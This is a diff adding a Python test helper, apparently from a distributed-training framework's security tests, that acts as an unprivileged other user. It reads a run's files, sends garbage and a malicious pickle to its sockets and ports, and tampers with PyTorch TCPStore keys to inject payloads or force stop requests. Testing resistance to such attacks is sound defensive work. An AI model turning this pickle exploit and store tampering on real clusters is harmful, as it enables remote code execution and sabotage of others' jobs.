@@ -1,0 +1,184 @@
+"""A program of another user that does to a run's sockets what it can; it gives up after a few seconds.
+
+As root it takes the rights of `nobody` first. Else it is another program of the same user, which has no key.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import pickle
+import signal
+import socket
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterable
+from datetime import timedelta
+from pathlib import Path
+from typing import Any, Final
+
+import psutil
+import torch.distributed as dist
+
+NOBODY: Final = 65534
+TIMEOUT_S: Final = 0.5
+LIMIT_S: Final = 20.0  # of one attack
+GARBAGE: Final = (b"\0" * 8, b"\xff" * 4096, b"GET / HTTP/1.0\r\n\r\n")
+
+
+"".encode("idna")  # imported now: another user may not be able to read Python's files
+
+
+class Exploit:
+    """Makes a folder where it is unpickled."""
+
+    def __init__(self, marker: str) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> Any:
+        return os.mkdir, (self.marker,)
+
+
+def external_addresses() -> list[str]:
+    """Return this machine's addresses beside loopback."""
+    found = [address for addresses in psutil.net_if_addrs().values() for address in addresses]
+    return [one.address for one in found if one.family == socket.AF_INET and not one.address.startswith("127.")]
+
+
+def attack(targets: dict[str, Any]) -> list[str]:
+    """Attack the sockets of a run; returns what has succeeded.
+
+    Args:
+        targets: `addresses` of the run's machine beside loopback, `ports` of its processes, paths of Unix `sockets`,
+            `files` of the run, and the `marker`.
+    """
+    reached = []
+    successes, exploit = [], pickle.dumps(Exploit(targets["marker"]))
+    for path in targets["files"]:
+        with contextlib.suppress(OSError):
+            Path(path).read_bytes()
+            successes.append(f"read {path}")
+    for path in targets["sockets"]:
+        with contextlib.suppress(OSError):
+            for words in (*GARBAGE, exploit, (len(exploit)).to_bytes(4, "big") + exploit):
+                with socket.socket(socket.AF_UNIX) as peer:
+                    peer.connect(path)
+                    successes.append(f"connected to {path}")
+                    peer.sendall(words)
+    for port in targets["ports"]:
+        for address in ("127.0.0.1", *targets["addresses"]):
+            with contextlib.suppress(OSError):
+                for words in (*GARBAGE, exploit):
+                    with socket.create_connection((address, port), TIMEOUT_S) as peer:
+                        reached.append((address, port))
+                        peer.sendall(words)
+    reached = sorted(set(reached))
+    successes += [f"connected to {address}:{port}" for address, port in reached if address != "127.0.0.1"]
+    stores = [threading.Thread(target=attack_store, args=(*place, exploit, successes)) for place in reached]
+    for thread in stores:
+        thread.daemon = True  # torch waits for ever for the answer of a port at which no store is
+        thread.start()
+    for thread in stores:
+        thread.join(TIMEOUT_S)
+    return successes
+
+
+def attack_store(address: str, port: int, exploit: bytes, successes: list[str]) -> None:
+    """Attack what may be a TCPStore."""
+    limit = timedelta(seconds=TIMEOUT_S)
+    with contextlib.suppress(RuntimeError):
+        store = dist.TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=limit)
+        store.list_keys()  # fails where a socket has connected to itself, at a port that has been closed meanwhile
+        successes.append(f"a store at port {port}")
+        write_to(store, exploit)
+
+
+def write_to(store: Any, exploit: bytes) -> None:
+    """Do to each value of a run what a store allows: overwrite it, add to it, replay it elsewhere, delete it.
+
+    torchrun's own keys are left alone: its rendezvous unpickles some of them.
+    """
+    prefixes = {"", "fabricx/", *(key.split("job")[0] for key in store.list_keys() if "job" in key)}
+    for prefix in prefixes:
+        store.set(f"{prefix}stop/requested", "interrupted")
+        for job in range(3):
+            store.set(f"{prefix}job{job}/stop/0/requested", "interrupted")
+            for number in range(1, 9):
+                store.set(f"{prefix}job{job}/exchange/server/0/0/from/{number}", exploit.hex())
+    ours = [key for key in store.list_keys() if "fabricx" in key or "exchange" in key]
+    for key, other in zip(ours, reversed(ours), strict=True):
+        before = store.get(key)
+        for value in (store.get(other), b"x" * (1 << 24), exploit):
+            store.set(key, value)
+        store.compare_set(key, exploit, before)
+        store.delete_key(key)
+        store.add(key, 1 << 40)
+
+
+def overwrite(port: int, exploit: bytes, kind: str) -> list[str]:
+    """Overwrite or delete a run's values in its launcher's store, from before they are there until the store has gone.
+
+    torchrun's own keys are left alone: its rendezvous unpickles some of them.
+    """
+    written: set[str] = set()
+    deadline = time.monotonic() + LIMIT_S / 2
+    with contextlib.suppress(RuntimeError):
+        limit = timedelta(seconds=LIMIT_S / 2)
+        store: Any = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=limit)
+        while time.monotonic() < deadline:
+            for key in store.list_keys():
+                if "fabricx" in key:
+                    written.add(key)
+                    if kind == "delete":
+                        store.delete_key(key)
+                    else:
+                        store.set(key, exploit)
+            time.sleep(0.001)
+    return sorted(written)
+
+
+def as_another_user(action: Callable[[], Any]) -> str:
+    """Return the result of an action, as text, of a child process without this user's rights."""
+    reader, writer = os.pipe()
+    if (child := os.fork()) == 0:
+        os.close(reader)
+        try:
+            if os.geteuid() == 0:
+                os.setgroups([])
+                os.setresgid(NOBODY, NOBODY, NOBODY)
+                os.setresuid(NOBODY, NOBODY, NOBODY)
+            os.write(writer, json.dumps(action()).encode())
+        except BaseException as error:
+            os.write(writer, json.dumps([f"{type(error).__name__}: {error}"]).encode())
+        os._exit(0)
+    os.close(writer)
+    with open(reader) as file:
+        deadline = time.monotonic() + LIMIT_S
+        while os.waitpid(child, os.WNOHANG) == (0, 0):
+            if time.monotonic() > deadline:
+                os.kill(child, signal.SIGKILL)
+                os.waitpid(child, 0)
+                break
+            time.sleep(0.01)
+        return file.read() or json.dumps([f"the attack took more than {LIMIT_S} s, and was ended"])
+
+
+def main(folder: Path, names: Iterable[str]) -> None:
+    """Attack each run of those names, when its targets are known; the result is in a file then."""
+    for name in names:
+        while not (folder / f"{name}.targets").exists():
+            time.sleep(0.01)
+        targets = json.loads((folder / f"{name}.targets").read_text())
+        result = as_another_user(lambda targets=targets: attack(targets))  # type: ignore[misc]
+        (folder / f"{name}.new").write_text(result)
+        (folder / f"{name}.new").rename(folder / f"{name}.result")
+
+
+if __name__ == "__main__":
+    if sys.argv[2] in ("overwrite", "delete"):
+        marker = str(Path(sys.argv[1], "marker"))
+        print(as_another_user(lambda: overwrite(int(sys.argv[3]), pickle.dumps(Exploit(marker)), sys.argv[2])))
+    else:
+        main(Path(sys.argv[1]), sys.argv[2:])
